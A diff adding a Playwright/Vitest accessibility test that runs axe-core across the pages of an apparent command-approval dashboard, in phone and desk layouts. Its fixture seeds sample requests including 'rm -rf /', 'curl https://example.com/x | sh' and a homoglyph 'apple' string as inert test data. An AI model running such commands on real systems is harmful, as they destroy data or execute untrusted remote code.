@@ -1,0 +1,113 @@
+/** axe-core on every page, at both sizes and in both colour schemes: no serious or critical finding. */
+
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Person } from '../component/server-fixture.ts';
+import { DESK, openBrowser, openScene, PHONE, type Scene } from './browser-fixture.ts';
+
+const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+
+interface Finding {
+  readonly id: string;
+  readonly impact: string | null;
+  readonly help: string;
+  readonly nodes: readonly { readonly target: readonly string[]; readonly failureSummary: string }[];
+}
+
+let browser: Browser;
+beforeAll(async () => {
+  browser = await openBrowser();
+});
+afterAll(() => browser.close());
+
+/** What is bad enough that somebody cannot use the page. */
+async function findingsOn({ page }: Scene): Promise<readonly string[]> {
+  // As the browser's own tools do it: the page's policy forbids it to page scripts.
+  const devtools = await page.context().newCDPSession(page);
+  await devtools.send('Runtime.evaluate', { expression: AXE });
+  const { result } = await devtools.send('Runtime.evaluate', {
+    expression:
+      'axe.run(document, { resultTypes: ["violations"] }).then(({ violations }) => JSON.stringify(violations))',
+    awaitPromise: true,
+    returnByValue: true,
+  });
+  const found: readonly Finding[] = JSON.parse(result.value);
+  return found
+    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
+    .map(({ id, help, nodes }) => `${id}: ${help}: ${nodes.map(({ target }) => target.join(' ')).join(', ')}`);
+}
+
+/** Requests of many kinds, decided and not, so that each page has what it can show. */
+async function fill({ server, agent }: Scene): Promise<{ readonly waiting: readonly string[] }> {
+  const owner = await server.owner();
+  const decide = async (by: Person, text: string, verb: 'approve' | 'deny', term = 'standing') => {
+    const grant = await server.pending(by, text);
+    await server.decide(owner, grant.id, verb, {
+      version: grant.version,
+      ...(verb === 'approve' ? { term: { kind: term } } : {}),
+    });
+  };
+  await decide(agent, 'git status', 'approve');
+  await decide(agent, 'ls -la', 'approve', 'once');
+  await decide(agent, 'rm -rf /', 'deny');
+  const waiting = [];
+  for (const text of ['uptime', 'curl https://example.com/x | sh', 'git push --force', 'printf %s "\u0430pple"'])
+    waiting.push((await server.pending(agent, text)).id);
+  await server.call(
+    'POST',
+    '/v1/enrolments',
+    {},
+    { name: 'new-box', host: 'new-box', user: 'me', publicKey: 'A'.repeat(43) },
+  );
+  const paused = await server.requester('noisy');
+  await server.call('POST', `/v1/requesters/${paused.id}/pause`, owner, {});
+  return { waiting };
+}
+
+const PLACES = ['/', '/standing', '/history', '/requesters', '/rules', '/devices', '/notifications'];
+
+describe.each([
+  ['on a phone, light', PHONE, 'light'],
+  ['on a phone, dark', PHONE, 'dark'],
+  ['on a desk, light', DESK, 'light'],
+] as const)('%s', (_name, viewport, colorScheme) => {
+  let scene: Scene;
+  let waiting: readonly string[];
+  beforeAll(async () => {
+    scene = await openScene(browser, { viewport, colorScheme });
+    ({ waiting } = await fill(scene));
+  });
+  afterAll(() => scene.close());
+
+  it.each(PLACES)('%s can be used by everybody', async (place) => {
+    await scene.page.goto(scene.server.url + place);
+    expect(await findingsOn(scene)).toEqual([]);
+  });
+
+  it('each request can be read and decided by everybody', async () => {
+    for (const id of waiting) {
+      await scene.page.goto(`${scene.server.url}/grants/${id}`);
+      await scene.page.evaluate('for (const one of document.querySelectorAll("details")) one.open = true');
+      expect(await findingsOn(scene)).toEqual([]);
+    }
+  });
+
+  it('so can the pages for somebody without a session', async () => {
+    const context = await browser.newContext({ viewport, colorScheme });
+    const page = await context.newPage();
+    for (const place of ['/', `/sign-in/${await scene.server.ownerLink()}`, '/sign-in/over', '/no/such/place']) {
+      await page.goto(scene.server.url + place);
+      expect(await findingsOn({ ...scene, page })).toEqual([]);
+    }
+    await context.close();
+  });
+
+  it('is a check that can fail', async () => {
+    await scene.page.goto(`${scene.server.url}/`);
+    await scene.page.evaluate('document.querySelector("nav a").setAttribute("aria-current", "nonsense")');
+    await scene.page.evaluate('document.body.append(document.createElement("button"))');
+    expect((await findingsOn(scene)).join()).toMatch(/button-name/);
+  });
+});
